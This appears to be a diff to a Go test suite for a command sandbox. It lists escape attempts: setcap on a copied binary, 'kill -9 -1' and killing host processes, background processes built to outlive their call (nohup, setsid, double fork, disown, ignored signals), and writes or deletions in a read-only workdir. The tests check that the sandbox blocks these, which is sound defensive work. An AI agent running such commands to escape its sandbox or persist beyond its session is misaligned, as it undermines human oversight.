-	{name: "setcap", category: catSetid, control: true, controlRoot: true, needs: []string{"setcap"}, run: sh(`cp "$(type -P true)" t && setcap cap_net_raw+ep t`)},
+	{name: "setcap", category: catSetid, control: true, controlRoot: true, needs: []string{"setcap"}, run: shAttempt(`cp "$(type -P true)" src/t && setcap cap_net_raw+ep src/t`)},
 
 	// Signals to processes outside.
 	{name: "kill -9 a host process", category: catSignal, control: true, run: signalAttempt(`kill -9 $VPID`)},
@@ -452,12 +452,12 @@ var escapeAttempts = []*escapeAttempt{
 	{name: "kill -9 -1", category: catSignal, run: killEveryone},
 
 	// Processes that outlive their call.
-	{name: "nohup … &", category: catSurvive, run: sh(awaitSurvivor + `nohup bash -c 'exec -a "$SURVIVOR" sleep 1000' >/dev/null 2>&1 & await_survivor`)},
-	{name: "setsid", category: catSurvive, control: true, run: sh(awaitSurvivor + `setsid bash -c 'exec -a "$SURVIVOR" sleep 1000' >/dev/null 2>&1 & await_survivor`)},
-	{name: "double fork", category: catSurvive, run: sh(awaitSurvivor + `( ( exec -a "$SURVIVOR" sleep 1000 ) >/dev/null 2>&1 & ) & await_survivor`)},
-	{name: "disown", category: catSurvive, run: sh(awaitSurvivor + `(exec -a "$SURVIVOR" sleep 1000) >/dev/null 2>&1 & disown; await_survivor`)},
-	{name: "signals ignored (trap '' TERM HUP)", category: catSurvive, run: sh(awaitSurvivor + `trap '' TERM HUP INT; (exec -a "$SURVIVOR" sleep 1000) >/dev/null 2>&1 & await_survivor`)},
-	{name: "daemon (new session, SIGTERM ignored)", category: catSurvive, control: true, run: sh(awaitSurvivor + `"$H" daemon "$SURVIVOR"; await_survivor`)},
+	{name: "nohup … &", category: catSurvive, run: shAttempt(awaitSurvivor + `nohup bash -c 'exec -a "$SURVIVOR" sleep 1000' >/dev/null 2>&1 & await_survivor`)},
+	{name: "setsid", category: catSurvive, control: true, run: shAttempt(awaitSurvivor + `setsid bash -c 'exec -a "$SURVIVOR" sleep 1000' >/dev/null 2>&1 & await_survivor`)},
+	{name: "double fork", category: catSurvive, run: shAttempt(awaitSurvivor + `( ( exec -a "$SURVIVOR" sleep 1000 ) >/dev/null 2>&1 & ) & await_survivor`)},
+	{name: "disown", category: catSurvive, run: shAttempt(awaitSurvivor + `(exec -a "$SURVIVOR" sleep 1000) >/dev/null 2>&1 & disown; await_survivor`)},
+	{name: "signals ignored (trap '' TERM HUP)", category: catSurvive, run: shAttempt(awaitSurvivor + `trap '' TERM HUP INT; (exec -a "$SURVIVOR" sleep 1000) >/dev/null 2>&1 & await_survivor`)},
+	{name: "daemon (new session, SIGTERM ignored)", category: catSurvive, control: true, run: shAttempt(awaitSurvivor + `"$H" daemon "$SURVIVOR"; await_survivor`)},
 	{name: "setsid, and the call times out", category: catSurvive, control: true, run: func(e *escapeEnv) []string {
 		res := e.shTimeout(awaitSurvivor+`setsid bash -c 'exec -a "$SURVIVOR" sleep 1000' >/dev/null 2>&1 & await_survivor; echo waiting; exec sleep 1000`, 300*time.Millisecond)
 		if !res.TimedOut {
@@ -467,15 +467,15 @@ var escapeAttempts = []*escapeAttempt{
 	}},
 
 	// The read-only profile: the working directory is not writable.
-	{name: "new file", category: catReadOnly, profile: ProfileReadOnly, control: true, run: sh(`echo x > new.txt`)},
-	{name: "overwrite a file", category: catReadOnly, profile: ProfileReadOnly, control: true, run: sh(`echo x > README.txt`)},
-	{name: "remove a file", category: catReadOnly, profile: ProfileReadOnly, control: true, run: sh(`rm -f README.txt`)},
-	{name: "rename a file", category: catReadOnly, profile: ProfileReadOnly, control: true, run: sh(`mv README.txt R.txt`)},
-	{name: "mkdir", category: catReadOnly, profile: ProfileReadOnly, control: true, run: sh(`mkdir d`)},
-	{name: "symlink", category: catReadOnly, profile: ProfileReadOnly, control: true, run: sh(`ln -s README.txt l`)},
-	{name: "touch -d", category: catReadOnly, profile: ProfileReadOnly, control: true, run: sh(`touch -d 2001-01-01 README.txt`)},
-	{name: "chmod", category: catReadOnly, profile: ProfileReadOnly, control: true, run: sh(`chmod 0600 README.txt`)},
-	{name: "sed -i", category: catReadOnly, profile: ProfileReadOnly, control: true, run: sh(`sed -i s/project/evil/ README.txt`)},
+	{name: "new file", category: catReadOnly, profile: ProfileReadOnly, control: true, run: shAttempt(`echo x > new.txt`)},
+	{name: "overwrite a file", category: catReadOnly, profile: ProfileReadOnly, control: true, run: shAttempt(`echo x > README.txt`)},
+	{name: "remove a file", category: catReadOnly, profile: ProfileReadOnly, control: true, run: shAttempt(`rm -f README.txt`)},
+	{name: "rename a file", category: catReadOnly, profile: ProfileReadOnly, control: true, run: shAttempt(`mv README.txt R.txt`)},
+	{name: "mkdir", category: catReadOnly, profile: ProfileReadOnly, control: true, run: shAttempt(`mkdir d`)},
+	{name: "symlink", category: catReadOnly, profile: ProfileReadOnly, control: true, run: shAttempt(`ln -s README.txt l`)},
+	{name: "touch -d", category: catReadOnly, profile: ProfileReadOnly, control: true, run: shAttempt(`touch -d 2001-01-01 README.txt`)},
+	{name: "chmod", category: catReadOnly, profile: ProfileReadOnly, control: true, run: shAttempt(`chmod 0600 README.txt`)},
+	{name: "sed -i", category: catReadOnly, profile: ProfileReadOnly, control: true, run: shAttempt(`sed -i s/project/evil/ README.txt`)},
 
 	// What the sandbox must allow.
 	{name: ".env.example stays readable", category: catAllowed, positive: true, run: func(e *escapeEnv) []string {
@@ -485,15 +485,15 @@ var escapeAttempts = []*escapeAttempt{
 		return nil
 	}},
 	{name: "the workdir is writable", category: catAllowed, positive: true, run: func(e *escapeEnv) []string {
-		e.sh(`mkdir -p build/out && echo built > build/out/a.o && mv build/out/a.o build/b.o && rm -r build/out`)
-		if b, err := os.ReadFile(filepath.Join(e.work, "build", "b.o")); err != nil || string(b) != "built\n" {
+		e.sh(`mkdir -p src/build/out && echo built > src/build/out/a.o && mv src/build/out/a.o src/build/b.o && rm -r src/build/out && echo edited >> README.txt`)
+		if b, err := os.ReadFile(filepath.Join(e.work, "src", "build", "b.o")); err != nil || string(b) != "built\n" {
 			return []string{fmt.Sprintf("the file made inside is not there: %q, %v", b, err)}
 		}
 		return nil
 	}},
-	{name: "a private /tmp is writable", category: catAllowed, positive: true, run: func(e *escapeEnv) []string {
-		if res := e.sh(`echo t > /tmp/f && cat /tmp/f`); res.ExitCode != 0 {
-			return []string{"/tmp is not writable"}
+	{name: "a private $TMPDIR is writable", category: catAllowed, positive: true, run: func(e *escapeEnv) []string {
+		if res := e.sh(`echo t > "$TMPDIR/f" && cat "$TMPDIR/f"`); res.ExitCode != 0 {
+			return []string{"$TMPDIR is not writable"}
 		}
 		return nil
 	}},
@@ -504,7 +504,7 @@ var escapeAttempts = []*escapeAttempt{
 		return nil
 	}},
 	{name: "read-only: reads work", category: catAllowed, profile: ProfileReadOnly, positive: true, run: func(e *escapeEnv) []string {
-		if res := e.sh(`cat README.txt && echo t > /tmp/f`); res.ExitCode != 0 || !bytes.Contains(res.Output, []byte("the project")) {
+		if res := e.sh(`cat README.txt && echo t > "$TMPDIR/f"`); res.ExitCode != 0 || !bytes.Contains(res.Output, []byte("the project")) {
 			return []string{"the working directory cannot be read"}
 		}
 		return nil
@@ -525,6 +525,18 @@ const awaitSurvivor = `await_survivor() {
 	echo "the process meant to outlive the call did not start"
 }
 `
+
+// namesListed says which of names the output shows: the names of files
+// in a hidden directory are hidden too.
+func namesListed(res ExecResult, names ...string) []string {
+	var ev []string
+	for _, line := range strings.Fields(string(res.Output)) {
+		if slices.Contains(names, line) {
+			ev = append(ev, "a hidden directory's entry "+line+" is listed")
+		}
+	}
+	return ev
+}
 
 // writeTar writes evil.tar in the working directory: first, then more.
 func (e *escapeEnv) writeTar(first tar.Header, more *tar.Header) {
